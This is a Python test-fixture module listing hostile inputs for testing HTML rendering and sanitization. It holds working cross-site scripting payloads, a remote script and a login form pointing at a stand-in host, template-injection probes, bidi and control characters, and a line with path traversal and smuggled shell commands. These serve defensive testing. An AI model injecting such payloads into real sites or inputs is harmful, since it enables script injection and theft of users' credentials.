r"""What strangers write in the hope that a browser runs it, shows it otherwise, or breaks.

Every element that a text would make has the class `pwned`, and all that would run sets `window.pwned` or calls
`alert`. Addresses lead to `.invalid`, which no resolver knows.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1;alert(1)"
ELSEWHERE: Final = "https://elsewhere.invalid"
LONG: Final = "W" * 4000
CORPUS: Final[dict[str, str]] = {
    "script": f"<script class=pwned>{RUN}</script>",
    "script-elsewhere": f"<script class=pwned src={ELSEWHERE}/x.js></script>",
    "image": f"<img class=pwned src=x onerror={RUN}>",
    "image-elsewhere": f'<img class="pwned" src="{ELSEWHERE}/x.png">',
    "drawing": f"<svg/class=pwned/onload={RUN}><animate onbegin={RUN}>",
    "double-quote": f'" class="pwned" autofocus onfocus="{RUN}" x="',
    "single-quote": f"' class='pwned' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    "backtick": f"`onmouseover={RUN} class=pwned `",
    "closing": f"</textarea></title></script></style></pre></select></template><h1 class=pwned onclick={RUN}>x",
    "comment": f"--><!-- --!> <i class=pwned><![CDATA[ <b onclick={RUN}> ]]>",
    "end-of-page": "</main></body></html><plaintext class=pwned>",
    "address": f"javascript:{RUN}//",
    "link": f'<a class=pwned href="javascript:{RUN}">x</a>',
    "data-address": f'<iframe class=pwned src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
    "document": f'<iframe class=pwned srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "form": f'<form class=pwned action="{ELSEWHERE}"><input name=key><button>Log in</button></form>',
    "base": f'<base class=pwned href="{ELSEWHERE}/"><meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    "style": f'<style class=pwned>*{{display:none!important}}</style><link rel=stylesheet href="{ELSEWHERE}/x.css">',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img class=pwned src=x onerror="{RUN}">',
    "noscript": f'<noscript><p title="</noscript><img class=pwned src=x onerror={RUN}>">',
    "template": "{{7*191}}{% raw %}${7*191}<%= 7*191 %>#{7*191}*{7*191}{{config.__class__}}",
    "references": "&lt;img class=pwned&gt;&#60;b class=pwned&#62;&quot;&#x27;%3Cb%20class=pwned%3E",
    "direction": "gpj.\u202etxt\u2066\u2067 \u200b\u200d\ufeff\u2028\u00ad\U000e0041 \u05d0\u05d1 \u0627\u0644",
    "control": "a\x07\x08\x0b\x0c\x1b[31mred\x1b[2J\x1b]0;title\x07\x9b31m\x7f\r\n\tb\x01\x1f",
    "stacked": "Z" + "\u0341\u0352\u0363\u0316" * 60 + " \U0001f469\u200d\U0001f4bb \ufdfd",
    "long": LONG,
    "long-address": "https://" + "a" * 300 + ".example/" + "b/" * 400,
    "many-words": "word " * 800,
    "dashes": "--help -rf ../../../etc/passwd ;reboot `id` $(id) | & \\ %s %n {0}",
}
"""By what it tries."""


def short(text: str, most: int) -> str:
    """As much of it as a field holds."""
    return text[:most]


def storable(text: str) -> str:
    """As PostgreSQL takes it: a text there has no NUL."""
    return text.replace("\x00", "")
